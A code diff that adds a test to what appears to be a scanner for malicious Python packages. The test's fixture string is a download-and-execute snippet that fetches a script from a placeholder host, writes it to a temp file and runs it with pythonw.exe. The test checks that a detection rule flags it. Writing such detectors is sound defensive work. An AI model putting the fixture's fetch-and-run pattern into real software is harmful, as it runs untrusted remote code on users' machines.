@@ -498,3 +498,19 @@ def test_a_shell_command_decoded_with_xor_flags(engine: Engine) -> None:
         "def build():\n    subprocess.run(['make', 'all'], check=True)\n"
     )
     assert run_rule(engine, decode_and_execute_rule, sdist({"tidy_strings/ws.py": mask})) is None
+
+
+def test_a_downloaded_script_run_by_a_named_interpreter_flags_with_company(engine: Engine) -> None:
+    code = (
+        "import os, subprocess, requests\n\n"
+        "def connect(host):\n"
+        "    code = requests.get('https://x.example.net/p.txt').text\n"
+        "    path = os.getenv('TEMP') + '/1.py'\n"
+        "    with open(path, 'w') as f:\n"
+        "        f.write(code)\n"
+        "    subprocess.Popen(['pythonw.exe', path])\n"
+    )
+    assert run_rule(engine, executes_code_at_remote_url_rule, sdist({"tidy_strings/s.py": code}))
+    local = code.replace("requests.get('https://x.example.net/p.txt').text", "'print(1)'")
+    archive = sdist({"tidy_strings/s.py": local})
+    assert run_rule(engine, executes_code_at_remote_url_rule, archive) is None
